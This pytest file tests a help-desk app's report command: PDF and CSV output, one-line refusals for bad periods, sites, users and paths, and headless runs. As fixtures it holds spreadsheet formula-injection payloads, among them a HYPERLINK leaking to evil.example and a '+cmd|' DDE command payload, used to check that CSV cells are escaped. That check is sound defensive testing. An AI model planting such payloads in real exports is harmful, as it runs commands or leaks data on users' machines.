"""``switchboard report`` as cron runs it: one line and exit status 0 when the PDF and the CSV
tables are written; one clear line on stderr, exit status 2, no traceback and no file (not even
a ``*.partial-*``) for a bad period, an unknown site, someone who may not run reports, or an
output that cannot be written; formula-safe CSV cells; no display and no Qt needed."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine

from app.cli import main
from app.tickets.actions import TicketDraft, create_ticket
from models.engine import make_engine, write_session
from models.facts import MADE_BY, MADE_BY_DEMO_DATA, record_fact
from models.migrate import upgrade
from models.org import Category
from models.people import Caller
from tests.conftest import Org, make_org, migrated_database, scratch_database

ROOT = Path(__file__).resolve().parents[1]
EVIL_CALLER = '=HYPERLINK("http://evil.example/?leak","Click")'
AT_CALLER = "@SUM(A1:A9)"
MINUS_CATEGORY = "-5"
PLUS_CATEGORY = "+cmd|' /C calc'!A0"
# Every table of the report, one CSV file each (app/reports/tables.py, in the PDF's order).
TABLES = {
    "summary",
    "mtta_by_priority",
    "mttr_by_priority",
    "phone_desk",
    "calls_per_operator",
    "calls_by_hour",
    "volume_by_category",
    "volume_by_channel",
    "volume_by_priority",
    "volume_by_site",
    "volume_by_hour_and_weekday",
    "backlog_by_age",
    "trend",
    "staff",
    "recurring_categories",
    "recurring_callers",
    "recurring_assets",
    "operations",
    "problems",
    "contracts_ending",
    "coverage_gaps",
    "certifications_expiring",
    "definitions",
}
KEPT = b"%PDF-1.4 last month's report, which a failed run must leave as it was\n"


def november(day: int, hour: int = 10) -> datetime:
    return datetime(2026, 11, day, hour, tzinfo=UTC)


def fill(engine: Engine, org: Org, *, demo: bool = True) -> None:
    """Tickets in November 2026 (and one in October, the month compared with) from callers
    and in categories whose names a spreadsheet would run as formulas. ``demo``: marked as
    made by ``demo-data``, where ``--user`` may name anyone (as the benchmarks' files are)."""
    with write_session(engine) as session:
        evil = Caller(name=EVIL_CALLER, email="evil@example.org", site_id=org.hq)
        at = Caller(name=AT_CALLER, email="at@example.org", site_id=org.branch)
        minus, plus = Category(name=MINUS_CATEGORY), Category(name=PLUS_CATEGORY)
        session.add_all([evil, at, minus, plus])
        session.flush()
        callers, categories = (evil.id, at.id), (minus.id, plus.id)
        if demo:
            record_fact(session, MADE_BY, MADE_BY_DEMO_DATA)
    for n in range(6):
        draft = TicketDraft(
            summary=f"Printer jam {n}",
            site_id=org.hq if n % 2 else org.branch,
            caller_id=callers[n % 2],
            category_id=categories[n % 2],
        )
        create_ticket(engine, draft, org.ann, now=november(2 + n, 9 + n))
    draft = TicketDraft(summary="VPN down", site_id=org.hq, caller_id=org.alice)
    create_ticket(engine, draft, org.ann, now=datetime(2026, 10, 20, 14, tzinfo=UTC))


@dataclass(frozen=True)
class Desk:
    """A database with the organisation of tests/conftest.py and November's tickets."""

    db: str  # what --db takes: a SQLite file or a server URL
    out: Path  # an empty folder for what the command writes
    file: Path | None  # the SQLite file, None on the server

    def args(self, *more: str, user: str | None = "mia") -> list[str]:
        return ["report", *more, "--db", self.db, *(["--user", user] if user else [])]


def sqlite_desk(tmp_path: Path, *, demo: bool = True) -> Desk:
    with migrated_database("sqlite", tmp_path) as engine:
        fill(engine, make_org(engine), demo=demo)
    out = tmp_path / "out"
    out.mkdir()
    return Desk(str(tmp_path / "switchboard.db"), out, tmp_path / "switchboard.db")


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return sqlite_desk(tmp_path)


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def any_desk(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Desk]:
    """The same desk on SQLite and, as a whole database of its own opened by its URL, on
    PostgreSQL."""
    if request.param == "sqlite":
        yield sqlite_desk(tmp_path)
        return
    with scratch_database() as (_name, url):
        engine = make_engine(url)
        try:
            upgrade(engine)
            fill(engine, make_org(engine))
        finally:
            engine.dispose()
        out = tmp_path / "out"
        out.mkdir()
        yield Desk(url, out, None)


def run(capsys: pytest.CaptureFixture[str], args: list[str]) -> tuple[int, str, str]:
    """``switchboard ARGS`` in this process: exit status, stdout, stderr. argparse's own
    refusals (SystemExit) count as the exit status they carry."""
    try:
        code = main(args)
    except SystemExit as stop:
        code = stop.code if isinstance(stop.code, int) else 1
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_in(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def assert_refused(code: int, err: str, says: str) -> None:
    """Exit status 2 and one line on stderr that says ``says``, no traceback."""
    assert code == 2, err
    assert "Traceback" not in err
    assert err.startswith("switchboard: ") and err.count("\n") == 1, err
    assert says in err, err


# -- what a good run writes -----------------------------------------------------------------


def test_a_month_writes_the_pdf_and_every_table_as_csv_and_says_so_in_one_line(
    any_desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    pdf, tables = any_desk.out / "november.pdf", any_desk.out / "tables"
    code, out, err = run(
        capsys, any_desk.args("--month", "2026-11", "--out", str(pdf), "--csv", str(tables))
    )
    assert (code, err) == (0, "")
    assert out == (
        f"Report for November 2026, All sites: {pdf} and {len(TABLES)} CSV tables in {tables}\n"
    )
    assert pdf.read_bytes().startswith(b"%PDF-") and pdf.stat().st_size > 10_000
    assert {p.name for p in tables.iterdir()} == {f"{key}.csv" for key in TABLES}
    for path in tables.iterdir():  # a header row in every file, even a table with no rows
        rows = read_csv(path)
        assert rows and rows[0] and all(rows[0]), path.name
    assert read_csv(tables / "volume_by_site.csv") == [
        ["Site", "Tickets", "Share"],
        ["HQ", "3", "50.0 %"],
        ["NY", "3", "50.0 %"],
    ]
    assert files_in(any_desk.out) == [
        "november.pdf",
        "tables",
        *sorted(f"tables/{key}.csv" for key in TABLES),
    ]  # nothing else: no partial file left beside them


@pytest.mark.parametrize(
    ("period", "label"),
    [
        (["--quarter", "2026-Q4"], "2026 Q4"),
        (["--quarter", "2026q4"], "2026 Q4"),
        (["--from", "2026-11-01", "--to", "2026-11-15"], "1 Nov 2026 – 15 Nov 2026"),
        (["--from", "2026-11-01", "--to", "2026-11-30"], "November 2026"),  # a whole month
        (["--from", "2025-01-01", "--to", "2026-12-31"], "1 Jan 2025 – 31 Dec 2026"),  # 2 years
    ],
)
def test_a_quarter_or_a_range_is_named_in_the_line(
    desk: Desk, capsys: pytest.CaptureFixture[str], period: list[str], label: str
) -> None:
    pdf = desk.out / "r.pdf"
    code, out, err = run(capsys, desk.args(*period, "--out", str(pdf), "--paper", "letter"))
    assert (code, err) == (0, "")
    assert out == f"Report for {label}, All sites: {pdf}\n"
    assert pdf.read_bytes().startswith(b"%PDF-")


def test_one_site_only_and_csv_only(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    tables = desk.out / "ny"
    code, out, err = run(
        capsys, desk.args("--month", "2026-11", "--site", "ny", "--csv", str(tables))
    )
    assert (code, err) == (0, "")
    assert out == f"Report for November 2026, New York (NY): {len(TABLES)} CSV tables in {tables}\n"
    assert read_csv(tables / "volume_by_site.csv")[1:] == [["NY", "3", "100.0 %"]]
    assert files_in(desk.out) == ["ny", *sorted(f"ny/{key}.csv" for key in TABLES)]


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(
    any_desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    tables = any_desk.out / "tables"
    code, _out, err = run(capsys, any_desk.args("--month", "2026-11", "--csv", str(tables)))
    assert (code, err) == (0, "")
    callers = dict(read_csv(tables / "recurring_callers.csv")[1:])
    assert callers == {"'" + EVIL_CALLER: "3", "'" + AT_CALLER: "3"}
    categories = dict(read_csv(tables / "recurring_categories.csv")[1:])
    assert categories == {"'" + MINUS_CATEGORY: "3", "'" + PLUS_CATEGORY: "3"}
    by_category = {row[0]: row[1] for row in read_csv(tables / "volume_by_category.csv")[1:]}
    assert by_category["'" + MINUS_CATEGORY] == "3" and by_category["'" + PLUS_CATEGORY] == "3"
    # no cell anywhere starts as a formula would
    for path in tables.iterdir():
        for row in read_csv(path):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)


# -- bad input: one line, exit status 2, nothing written ----------------------------------------


@pytest.mark.parametrize(
    ("period", "says"),
    [
        (["--month", "2026-13"], "'2026-13' is not a month; write it as YYYY-MM, e.g. 2026-10"),
        (["--month", "October"], "'October' is not a month; write it as YYYY-MM"),
        (["--month", "2026-00"], "'2026-00' is not a month"),
        (["--quarter", "2026-Q5"], "'2026-Q5' is not a quarter; write it as YYYY-Qn, e.g. 2026-Q4"),
        (["--quarter", "Q4"], "'Q4' is not a quarter"),
        (
            ["--from", "2026-11-30", "--to", "2026-11-01"],
            "The period ends (2026-11-01) before it starts (2026-11-30)",
        ),
        (
            ["--from", "2024-01-01", "--to", "2026-06-30"],
            "The period from 2024-01-01 to 2026-06-30 is longer than two years; make one "
            "report per year.",
        ),
        ([], "Give the report's period one way: --month YYYY-MM, --quarter YYYY-Qn, or --from"),
        (["--month", "2026-11", "--from", "2026-11-01", "--to", "2026-11-30"], "one way"),
        (["--from", "2026-11-01"], "A range needs both ends: --from DATE --to DATE."),
        (["--to", "2026-11-30"], "A range needs both ends"),
    ],
)
def test_a_bad_period_is_refused_in_one_line_and_leaves_the_old_file(
    desk: Desk, capsys: pytest.CaptureFixture[str], period: list[str], says: str
) -> None:
    kept = desk.out / "report.pdf"
    kept.write_bytes(KEPT)
    code, out, err = run(
        capsys, desk.args(*period, "--out", str(kept), "--csv", str(desk.out / "t"))
    )
    assert_refused(code, err, says)
    assert out == ""
    assert kept.read_bytes() == KEPT and files_in(desk.out) == ["report.pdf"]


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (
            ["--month", "2026-11", "--quarter", "2026-Q4"],
            "argument --quarter: not allowed with argument --month",
        ),
        (["--from", "2026-02-30", "--to", "2026-03-31"], "'2026-02-30' is not a date"),
        (["--month", "2026-11", "--paper", "a5"], "argument --paper: invalid choice: 'a5'"),
    ],
)
def test_what_argparse_refuses_ends_with_one_line_saying_why(
    desk: Desk, capsys: pytest.CaptureFixture[str], args: list[str], says: str
) -> None:
    """argparse prints the command's usage first, as for every command, then one line."""
    kept = desk.out / "report.pdf"
    kept.write_bytes(KEPT)
    code, out, err = run(capsys, desk.args(*args, "--out", str(kept)))
    assert code == 2 and out == "" and "Traceback" not in err
    last = err.rstrip("\n").splitlines()[-1]
    assert last.startswith("switchboard report: error: ") and says in last, err
    assert kept.read_bytes() == KEPT and files_in(desk.out) == ["report.pdf"]


def test_no_out_and_no_csv_is_refused(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, desk.args("--month", "2026-11"))
    assert_refused(
        code,
        err,
        "Say where the report goes: --out FILE.pdf for the PDF, --csv DIR for its tables, or both.",
    )
    assert out == "" and files_in(desk.out) == []


def test_an_unknown_site_is_refused_with_the_codes_there_are(
    any_desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = any_desk.out / "report.pdf"
    kept.write_bytes(KEPT)
    tables = any_desk.out / "t"
    code, out, err = run(
        capsys,
        any_desk.args(
            "--month", "2026-11", "--site", "XX", "--out", str(kept), "--csv", str(tables)
        ),
    )
    assert_refused(code, err, "There is no site 'XX'. Sites: HQ, NY.")
    assert err == "switchboard: There is no site 'XX'. Sites: HQ, NY.\n"
    assert out == "" and kept.read_bytes() == KEPT and files_in(any_desk.out) == ["report.pdf"]


# -- who may run it -------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["ann", "bob"])  # an operator, a technician
def test_an_operator_or_technician_is_refused(
    any_desk: Desk, capsys: pytest.CaptureFixture[str], who: str
) -> None:
    kept = any_desk.out / "report.pdf"
    kept.write_bytes(KEPT)
    tables = any_desk.out / "t"
    args = any_desk.args("--month", "2026-11", "--out", str(kept), "--csv", str(tables), user=who)
    code, out, err = run(capsys, args)
    assert_refused(code, err, "Only a manager or an admin can run reports.")
    assert out == "" and kept.read_bytes() == KEPT and files_in(any_desk.out) == ["report.pdf"]


def test_an_admin_may_and_someone_unknown_may_not(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    pdf = desk.out / "r.pdf"
    assert run(capsys, desk.args("--month", "2026-11", "--out", str(pdf), user="ada"))[0] == 0
    pdf.unlink()
    code, _out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(pdf), user="eve"))
    assert_refused(code, err, "eve is not a staff member of this database")
    assert files_in(desk.out) == []


def test_without_user_the_login_is_who_runs_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = sqlite_desk(tmp_path, demo=False)
    pdf = desk.out / "r.pdf"
    monkeypatch.setenv("LOGNAME", "ann")
    code, _out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(pdf), user=None))
    assert_refused(code, err, "Only a manager or an admin can run reports.")
    assert files_in(desk.out) == []
    monkeypatch.setenv("LOGNAME", "mia")
    code, out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(pdf), user=None))
    assert (code, err, out) == (0, "", f"Report for November 2026, All sites: {pdf}\n")


def test_user_naming_someone_else_is_refused_on_a_real_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = sqlite_desk(tmp_path, demo=False)
    monkeypatch.setenv("LOGNAME", "ann")  # an operator at the keyboard
    pdf = desk.out / "r.pdf"
    code, _out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(pdf), user="mia"))
    assert_refused(code, err, "--user works only on a demo database")
    assert files_in(desk.out) == []


# -- outputs that cannot be written ---------------------------------------------------------


def test_csv_in_a_folder_that_does_not_exist_is_refused(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    tables = desk.out / "missing" / "tables"
    code, out, err = run(capsys, desk.args("--month", "2026-11", "--csv", str(tables)))
    assert_refused(code, err, f"The folder {tables.parent} does not exist; make it first")
    assert out == "" and files_in(desk.out) == []


def test_pdf_in_a_folder_that_does_not_exist_is_refused(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    pdf = desk.out / "missing" / "deeper" / "r.pdf"
    code, out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(pdf)))
    assert_refused(code, err, "does not exist")
    assert out == "" and files_in(desk.out) == []


def test_out_naming_a_folder_or_csv_naming_a_file_is_refused(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = desk.out / "reports"
    folder.mkdir()
    code, out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(folder)))
    assert_refused(code, err, f"{folder} is a folder; give a file name, such as report-2026-11.pdf")
    assert out == "" and files_in(desk.out) == ["reports"]

    kept = desk.out / "tables.csv"
    kept.write_bytes(KEPT)
    code, out, err = run(capsys, desk.args("--month", "2026-11", "--csv", str(kept)))
    assert_refused(code, err, f"{kept} is a file; give a folder for the CSV tables.")
    assert kept.read_bytes() == KEPT and files_in(desk.out) == ["reports", "tables.csv"]


def test_out_naming_a_switchboard_database_never_writes_over_it(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    assert desk.file is not None
    other = desk.out / "branch.db"
    shutil.copyfile(desk.file, other)
    for target in (desk.file, other):
        before = digest(target)
        code, out, err = run(capsys, desk.args("--month", "2026-11", "--out", str(target)))
        assert_refused(code, err, f"{target} is a Switchboard database; an export never writes")
        assert out == "" and digest(target) == before
    assert files_in(desk.out) == ["branch.db"]
    assert not list(desk.file.parent.glob("*.partial-*"))


def test_a_run_refused_for_its_csv_folder_leaves_the_pdf_at_out_as_it_was(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = desk.out / "report.pdf"
    kept.write_bytes(KEPT)
    not_a_folder = desk.out / "tables"
    not_a_folder.write_bytes(b"a file\n")
    code, _out, err = run(
        capsys, desk.args("--month", "2026-11", "--out", str(kept), "--csv", str(not_a_folder))
    )
    assert_refused(code, err, "is a file; give a folder for the CSV tables")
    assert kept.read_bytes() == KEPT


def _read_only_runner(folder: Path) -> list[str]:
    """What to put before ``python`` so a write in ``folder`` (mode 0555) is refused: nothing
    for an ordinary user; for root, setpriv without the capabilities that ignore file modes.
    Skips where neither makes the folder read-only."""
    prefix: list[str] = []
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("running as root without setpriv: a folder's mode does not stop root")
        prefix = [setpriv, "--bounding-set=-dac_override,-dac_read_search,-fowner"]
    probe = subprocess.run(
        [*prefix, sys.executable, "-c", f"open({str(folder / 'probe')!r}, 'w')"],
        capture_output=True,
        check=False,
    )
    if probe.returncode == 0:
        (folder / "probe").unlink()
        pytest.skip("this file system lets the tests write in a read-only folder")
    return prefix


@pytest.mark.parametrize("what", ["pdf", "csv-new-folder", "csv-in-folder"])
def test_a_read_only_folder_is_refused_in_one_line_and_nothing_is_left(
    desk: Desk, what: str
) -> None:
    locked = desk.out / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        prefix = _read_only_runner(locked)
        target = {
            "pdf": ["--out", str(locked / "r.pdf")],
            "csv-new-folder": ["--csv", str(locked / "tables")],
            "csv-in-folder": ["--csv", str(locked)],
        }[what]
        result = subprocess.run(
            [*prefix, sys.executable, "-m", "app", *desk.args("--month", "2026-11", *target)],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=120,
            check=False,
        )
        assert_refused(result.returncode, result.stderr, "may not read or write a file it needs")
        assert result.stdout == ""
        assert files_in(locked) == []
    finally:
        locked.chmod(0o755)


# -- unattended: no display, no Qt ----------------------------------------------------------


def _headless_env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")}
    env.pop("QT_QPA_PLATFORM", None)
    return env


def test_it_runs_with_no_display_and_never_imports_qt(desk: Desk) -> None:
    pdf, tables = desk.out / "r.pdf", desk.out / "t"
    result = subprocess.run(
        [
            sys.executable,
            "-X",
            "importtime",
            "-m",
            "app",
            *desk.args("--month", "2026-11", "--out", str(pdf), "--csv", str(tables)),
        ],
        capture_output=True,
        text=True,
        env=_headless_env(),
        cwd=ROOT,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == (
        f"Report for November 2026, All sites: {pdf} and {len(TABLES)} CSV tables in {tables}\n"
    )
    imported = [line.rsplit("|", 1)[-1].strip() for line in result.stderr.splitlines()]
    assert "app.report_commands" in imported and "matplotlib" in imported  # importtime's list
    assert not [name for name in imported if name.split(".")[0] in ("PySide6", "shiboken6", "ui")]
    assert pdf.read_bytes().startswith(b"%PDF-") and len(list(tables.iterdir())) == len(TABLES)


def test_after_a_report_no_qt_module_is_loaded(desk: Desk) -> None:
    pdf = desk.out / "r.pdf"
    code = (
        "import sys\n"
        "from app.cli import main\n"
        f"status = main({desk.args('--month', '2026-11', '--out', str(pdf))!r})\n"
        "qt = sorted(m for m in sys.modules if m.split('.')[0] in ('PySide6', 'shiboken6', 'ui'))\n"
        "print(status, qt)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env=_headless_env(),
        cwd=ROOT,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[-1] == "0 []"
    assert pdf.read_bytes().startswith(b"%PDF-")


# -- the edge of "two years" ----------------------------------------------------------------


def test_two_years_and_a_day_is_longer_than_two_years(
    desk: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    pdf = desk.out / "r.pdf"
    code, _out, err = run(
        capsys, desk.args("--from", "2025-01-01", "--to", "2027-01-01", "--out", str(pdf))
    )
    assert_refused(code, err, "is longer than two years")
    assert files_in(desk.out) == []
